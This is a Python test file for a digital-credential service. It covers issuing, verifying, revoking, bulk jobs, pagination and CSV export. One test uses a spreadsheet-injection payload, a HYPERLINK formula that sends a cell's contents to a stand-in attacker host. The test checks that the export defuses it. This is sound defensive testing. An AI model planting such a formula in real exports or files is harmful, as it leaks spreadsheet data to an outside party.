"""The credentials API and pages through the real app: issue, verify, serve, revoke, bulk."""

from __future__ import annotations

import csv
import io
import re
import time

from fastapi.testclient import TestClient
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from microcred.accounts import service as accounts
from microcred.accounts.models import AuditEvent, User
from microcred.credentials import service
from microcred.credentials.baking import extract
from microcred.credentials.models import IssuedCredential
from microcred.settings import Settings
from tests.conftest import World, sign_in_client


def _token(sessions: sessionmaker[Session], user: User, scopes: list[str]) -> str:
    with sessions.begin() as session:
        principal = accounts.principal_for(session, session.get(User, user.id) or user)
        _, secret = accounts.create_api_token(session, principal, name="t", scopes=scopes)
    return secret


def _issue(client: TestClient, token: str, definition_id: str, **extra: object) -> dict:  # type: ignore[type-arg]
    response = client.post(
        "/api/v1/credentials",
        json={"definition_id": definition_id, "recipient_email": "learner@example.org",
              "results": [{"level": "Competent"}], **extra},
        headers={"Authorization": f"Bearer {token}"},
    )  # fmt: skip
    assert response.status_code == 201, response.text
    return response.json()  # type: ignore[no-any-return]


def test_api_issue_verify_revoke_and_the_served_documents(
    client: TestClient, sessions: sessionmaker[Session], world: World, definition_id: str
) -> None:
    token = _token(sessions, world.staff, ["credentials:issue"])
    issued = _issue(client, token, definition_id, formats=["eddsa-rdfc-2022", "vc-jwt-rs256"])
    credential = issued["credential"]
    # the DID document and the status list are served, and resolvable through the app
    did = client.get("/issuers/north-college/did.json")
    assert did.status_code == 200 and did.json()["id"] == credential["issuer"]["id"]
    status_url = credential["credentialStatus"]["statusListCredential"]
    listing = client.get(status_url.replace("http://127.0.0.1:8000", ""))
    assert listing.status_code == 200 and "no-cache" in listing.headers["cache-control"]
    # verify: JSON body, raw JWT text, uploaded baked PNG and SVG
    for body, content_type in (
        (client.get(f"/credentials/{issued['id']}/credential.json").content, "application/json"),
        (issued["jwts"]["vc-jwt-rs256"].encode(), "text/plain"),
    ):
        report = client.post("/api/v1/verify", content=body, headers={"content-type": content_type})
        assert report.json()["valid"] is True, report.json()["checks"]
    for image in ("badge.png", "badge.svg"):
        baked = client.get(f"/credentials/{issued['id']}/{image}").content
        assert '"proof"' in extract(baked).text
        report = client.post("/api/v1/verify", files={"file": (image, baked)})
        assert report.json()["valid"] is True
        assert report.json()["source"].startswith(image[-3:])
    # revoke through the API: the next verification fails at once
    revoked = client.post(
        f"/api/v1/credentials/{issued['id']}/revoke",
        json={"reason": "Issued in error"},
        headers={"Authorization": f"Bearer {token}"},
    )
    assert revoked.status_code == 200 and revoked.json()["state"] == "revoked"
    report = client.post("/api/v1/verify", json=credential).json()
    assert report["valid"] is False
    assert any(c["name"] == "status" and c["status"] == "fail" for c in report["checks"])


def test_api_refusals_are_4xx_json(
    client: TestClient, sessions: sessionmaker[Session], world: World, definition_id: str
) -> None:
    other = _token(sessions, world.other_staff, ["credentials:issue"])
    response = client.post(
        "/api/v1/credentials",
        json={"definition_id": definition_id, "recipient_email": "a@example.org"},
        headers={"Authorization": f"Bearer {other}"},
    )
    assert response.status_code == 403
    staff = _token(sessions, world.staff, ["credentials:issue"])
    bad = client.post(
        "/api/v1/credentials",
        json={"definition_id": definition_id, "recipient_email": "nope"},
        headers={"Authorization": f"Bearer {staff}"},
    )
    assert bad.status_code == 400 and bad.json()["field"] == "recipient_email"
    assert client.post("/api/v1/credentials", json={}).status_code in (401, 422)
    assert client.get("/status/" + "0" * 32).status_code == 404
    for garbage in (
        b'{"@context": [',
        b"eyJhbGciOiJub25lIn0.eyJ2YyI6e319.",
        b"\x89PNG\r\n\x1a\nxx",
    ):
        report = client.post("/api/v1/verify", content=garbage)
        assert report.status_code == 200 and report.json()["valid"] is False


def test_bulk_job_through_the_api(
    client: TestClient, sessions: sessionmaker[Session], world: World, definition_id: str
) -> None:
    token = _token(sessions, world.staff, ["credentials:issue"])
    rows = (
        "definition_id,recipient_email,result_level\n"
        + "".join(f"{definition_id},p{n}@example.org,Novice\n" for n in range(5))
        + f"{definition_id},broken,Novice\n"
    )
    headers = {"Authorization": f"Bearer {token}", "content-type": "text/csv"}
    created = client.post(
        "/api/v1/organisations/north-college/issuance-jobs", content=rows, headers=headers
    )
    assert created.status_code == 202, created.text
    job_url = f"/api/v1/organisations/north-college/issuance-jobs/{created.json()['id']}"
    deadline = time.monotonic() + 30
    while (job := client.get(job_url, headers=headers).json())["state"] != "completed":
        assert time.monotonic() < deadline, job
        time.sleep(0.1)
    assert (job["issued_count"], job["error_count"]) == (5, 1)
    result = client.get(job["result_url"], headers=headers).text.splitlines()
    assert result[0] == "row,status,credential_id,credential_url,error"
    assert result[6].startswith("6,error,")
    bearer = {"Authorization": headers["Authorization"]}
    links = client.post(f"{job_url}/invitations", headers=bearer)
    assert links.status_code == 200, links.text
    assert sorted(item["email"] for item in links.json()) == [f"p{n}@example.org" for n in range(5)]
    assert all("/invitations/inv_" in item["invitation_url"] for item in links.json())
    revoke = client.post(f"{job_url}/revoke", json={"reason": "Wrong cohort"}, headers=bearer)
    assert revoke.json() == {"revoked": 5, "already_revoked": 0}, revoke.text
    issued = result[1].split(",")[2]
    assert client.get(f"/api/v1/credentials/{issued}", headers=bearer).json()["state"] == "revoked"
    again = client.post(f"{job_url}/revoke", json={"reason": "Again"}, headers=bearer)
    assert again.json() == {"revoked": 0, "already_revoked": 5}


def test_staff_revoke_a_jobs_credentials_from_its_page_after_confirming(
    client: TestClient, sessions: sessionmaker[Session], world: World, definition_id: str,
    settings: Settings,
) -> None:  # fmt: skip
    from microcred.credentials import bulk

    rows = "definition_id,recipient_email\n" + "".join(
        f"{definition_id},q{n}@example.org\n" for n in range(3)
    )
    with sessions.begin() as session:
        job_id = bulk.create_job(session, None, "north-college", rows.encode()).id
    bulk.run_job(sessions, job_id, settings)
    csrf = sign_in_client(client, world.staff.email)
    page = client.get(f"/manage/credentials/jobs/{job_id}")
    assert 'id="job-revoke"' in page.text and "Revoke 3 credentials" in page.text
    assert "3 active" in page.text
    url = f"/manage/credentials/jobs/{job_id}/revoke"
    unconfirmed = client.post(url, data={"csrf_token": csrf, "reason": "Wrong file"})
    assert unconfirmed.status_code == 400 and "Tick the box" in unconfirmed.text
    forged = client.post(url, data={"reason": "Wrong file", "confirm": "yes"})
    assert forged.status_code == 403
    done = client.post(
        url, data={"csrf_token": csrf, "reason": "Wrong file", "confirm": "yes"},
        follow_redirects=False,
    )  # fmt: skip
    assert done.status_code == 303
    after = client.get(done.headers["location"])
    assert "Revoked 3 credentials." in after.text and "3 revoked" in after.text
    assert 'id="job-revoke"' not in after.text  # nothing left to revoke


def test_staff_pages_issue_and_revoke_with_csrf(
    client: TestClient, world: World, definition_id: str
) -> None:
    csrf = sign_in_client(client, "staff@north.example")
    form = client.get("/manage/credentials/issue")
    assert form.status_code == 200 and "Data analysis with Python" in form.text
    refused = client.post("/manage/credentials/issue", data={"definition_id": definition_id})
    assert refused.status_code == 403
    bad = client.post(
        "/manage/credentials/issue",
        data={"csrf_token": csrf, "definition_id": definition_id, "recipient_email": "x",
              "organisation": "north-college"},
    )  # fmt: skip
    assert bad.status_code == 400 and "not a valid e-mail" in bad.text
    issued = client.post(
        "/manage/credentials/issue",
        data={"csrf_token": csrf, "definition_id": definition_id, "organisation": "north-college",
              "recipient_email": "learner@example.org", "recipient_name": "Lee Learner",
              "result_level": "Competent", "formats": ["eddsa-rdfc-2022", "vc-jose-eddsa"]},
        follow_redirects=False,
    )  # fmt: skip
    assert issued.status_code == 303
    page = client.get(issued.headers["location"])
    assert "✔</span> Valid" in page.text and "Competent" in page.text
    assert "Lee Learner" in page.text  # staff see the name
    credential_id = re.search(r"/credentials/([0-9a-f]{32})", issued.headers["location"]).group(1)  # type: ignore[union-attr]
    listing = client.get("/manage/credentials")
    assert credential_id in listing.text
    revoke = client.post(
        f"/manage/credentials/{credential_id}/status",
        data={"csrf_token": csrf, "action": "revoke", "reason": "Wrong person"},
        follow_redirects=False,
    )
    assert revoke.status_code == 303
    page = client.get(f"/credentials/{credential_id}")
    assert "Not valid" in page.text and "Revoked" in page.text
    # the public sees no name without the learner's consent
    client.cookies.clear()
    public = client.get(f"/credentials/{credential_id}")
    assert public.status_code == 200 and "Lee Learner" not in public.text


def test_verify_page_accepts_pasted_text(client: TestClient) -> None:
    page = client.get("/verify")
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)  # type: ignore[union-attr]
    result = client.post("/verify", data={"csrf_token": csrf, "credential": '{"truncated": '})
    assert result.status_code == 200 and "Not valid" in result.text and "parse" in result.text


def test_api_issuer_list_pages_by_number_and_by_cursor_and_only_for_its_staff(
    client: TestClient, sessions: sessionmaker[Session], world: World, definition_id: str
) -> None:
    token = _token(sessions, world.staff, ["credentials:issue", "credentials:read"])
    ids = [_issue(client, token, definition_id)["id"] for _ in range(3)]
    headers = {"Authorization": f"Bearer {token}"}
    url = "/api/v1/organisations/north-college/credentials"
    first = client.get(url, params={"per_page": 2}, headers=headers).json()
    assert (first["total"], first["pages"], len(first["items"])) == (3, 2, 2)
    rest = client.get(
        url, params={"per_page": 2, "after": first["next_cursor"]}, headers=headers
    ).json()
    assert rest["next_cursor"] is None
    walked = [item["id"] for item in first["items"] + rest["items"]]
    assert walked == ids[::-1]  # newest first
    numbered = client.get(url, params={"per_page": 2, "page": 2}, headers=headers).json()
    assert [item["id"] for item in numbered["items"]] == walked[2:]
    bad = client.get(url, params={"after": "nonsense"}, headers=headers)
    assert bad.status_code == 400 and bad.json()["field"] == "after", bad.text
    other = _token(sessions, world.other_staff, ["credentials:read"])
    refused = client.get(url, headers={"Authorization": f"Bearer {other}"})
    assert refused.status_code == 403


def test_staff_export_the_filtered_list_as_csv_streamed_and_audited(
    client: TestClient, sessions: sessionmaker[Session], world: World, definition_id: str
) -> None:
    token = _token(sessions, world.staff, ["credentials:issue", "credentials:read"])
    ids = [_issue(client, token, definition_id)["id"] for _ in range(5)]
    headers = {"Authorization": f"Bearer {token}"}
    revoked = client.post(
        f"/api/v1/credentials/{ids[1]}/revoke", json={"reason": "Issued in error"}, headers=headers
    )
    assert revoked.status_code == 200, revoked.text
    url = "/api/v1/organisations/north-college/credentials.csv"
    answer = client.get(url, headers=headers)
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    assert "attachment" in answer.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert [row["credential_id"] for row in rows] == ids[::-1]
    assert rows[0]["credential_url"].endswith(f"/credentials/{ids[-1]}")
    assert rows[0]["recipient_email"] == "learner@example.org"
    assert rows[0]["issued_at"].endswith("Z") and rows[0]["valid_until"] == ""
    by_state = {row["credential_id"]: (row["state"], row["state_reason"]) for row in rows}
    assert by_state[ids[1]] == ("revoked", "Issued in error")
    only_revoked = client.get(url, params={"state": "revoked"}, headers=headers)
    assert [row["credential_id"] for row in csv.DictReader(io.StringIO(only_revoked.text))] == [
        ids[1]
    ]
    bad = client.get(url, params={"state": "lost"}, headers=headers)
    assert bad.status_code == 400 and bad.json()["field"] == "state"
    other = _token(sessions, world.other_staff, ["credentials:read"])
    assert client.get(url, headers={"Authorization": f"Bearer {other}"}).status_code == 403
    with sessions() as session:
        audited = session.scalars(
            select(AuditEvent.details).where(AuditEvent.action == "credentials.exported")
        ).all()
    assert audited == [{"state": None, "q": None}, {"state": "revoked", "q": None}]
    # the page: a link under the list, the same file for the signed-in staff member
    sign_in_client(client, world.staff.email)
    page = client.get("/manage/credentials?organisation=north-college&state=revoked")
    link = re.search(r'id="export-credentials" href="([^"]+)"', page.text)
    assert link is not None
    download = client.get(link.group(1).replace("&amp;", "&"))
    assert [row["credential_id"] for row in csv.DictReader(io.StringIO(download.text))] == [ids[1]]


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


def test_the_export_reads_on_across_batches(
    sessions: sessionmaker[Session], world: World, definition_id: str, settings: Settings
) -> None:
    with sessions.begin() as session:
        made = [
            service.issue_credential(
                session, None, settings=settings, definition_id=definition_id,
                recipient_email=f"batch{number}@example.org", results=[{"level": "Competent"}],
                recipient_name=FORMULA if number == 0 else f"Learner {number}",
            ).id
            for number in range(7)
        ]  # fmt: skip
        for row in session.scalars(select(IssuedCredential)).all()[2:5]:
            row.issued_at = row.issued_at.replace(microsecond=0, second=0)  # ties across a batch
    with sessions() as session:
        export = service.start_credentials_export(session, None, "north-college")
        chunks = list(service.export_credentials_csv(session, export, settings.base_url, batch=2))
        listed = service.credentials_of_issuer(session, None, "north-college", per_page=10)
    assert len(chunks) == 4  # 2 + 2 + 2 + 1 rows
    rows = list(csv.DictReader(io.StringIO("".join(chunks))))
    exported = [row["credential_id"] for row in rows]
    assert exported == [row.id for row in listed.items] and sorted(exported) == sorted(made)
    # a name a spreadsheet would run as a formula comes out as text (CSV injection)
    names = {row["credential_id"]: row["recipient_name"] for row in rows}
    assert names[made[0]] == "'" + FORMULA and names[made[1]] == "Learner 1"


def test_staff_invite_recipients_who_then_hold_their_credentials(
    client: TestClient, sessions: sessionmaker[Session], world: World, definition_id: str,
    settings: Settings,
) -> None:  # fmt: skip
    from microcred.credentials import bulk

    csrf = sign_in_client(client, world.staff.email)
    issued = client.post(
        "/manage/credentials/issue",
        data={"csrf_token": csrf, "definition_id": definition_id, "organisation": "north-college",
              "recipient_email": "newbie@example.org", "result_level": "Competent"},
        follow_redirects=False,
    )  # fmt: skip
    credential_url = issued.headers["location"].split("?")[0]
    page = client.get(credential_url)
    assert 'id="invite-recipient"' in page.text
    invite_url = (
        f"{credential_url.replace('/credentials/', '/manage/credentials/')}/invite-recipient"
    )
    assert client.post(invite_url).status_code == 403  # no CSRF token
    invited = client.post(invite_url, data={"csrf_token": csrf})
    link = re.search(r'id="invitation-link"[^>]*>[^<]*(/invitations/inv_[^<\s]+)<', invited.text)
    assert link is not None
    newbie = TestClient(client.app)
    form = newbie.get(link.group(1))
    token = re.search(r'name="csrf_token" value="([^"]+)"', form.text)
    assert token is not None and "learner" in form.text
    newbie.post(link.group(1), data={"csrf_token": token.group(1), "name": "New Bie",
                                     "password": "newbie-password", "password_again":
                                     "newbie-password"})  # fmt: skip
    assert credential_url.rsplit("/", 1)[1] in newbie.get("/api/v1/me/credentials").text
    assert 'id="invite-recipient"' not in client.get(credential_url).text  # held now

    rows = "definition_id,recipient_email,recipient_name\n" + "".join(
        f"{definition_id},cohort{n}@example.org,=Cohort {n}\n" for n in range(3)
    )
    with sessions.begin() as session:
        job_id = bulk.create_job(session, None, "north-college", rows.encode()).id
    bulk.run_job(sessions, job_id, settings)
    job_page = client.get(f"/manage/credentials/jobs/{job_id}")
    assert 'id="job-invitations"' in job_page.text
    links = client.post(f"/manage/credentials/jobs/{job_id}/invitations.csv",
                        data={"csrf_token": csrf})  # fmt: skip
    assert links.status_code == 200 and "attachment" in links.headers["content-disposition"]
    table = list(csv.DictReader(io.StringIO(links.text)))
    assert [row["email"] for row in table] == [f"cohort{n}@example.org" for n in range(3)]
    assert all("/invitations/inv_" in row["invitation_url"] for row in table)
    assert table[0]["name"] == "'=Cohort 0"  # defused for the spreadsheet
    other = TestClient(client.app)
    other_csrf = sign_in_client(other, world.other_staff.email)
    refused = other.post(f"/manage/credentials/jobs/{job_id}/invitations.csv",
                         data={"csrf_token": other_csrf})  # fmt: skip
    assert refused.status_code in (403, 404)
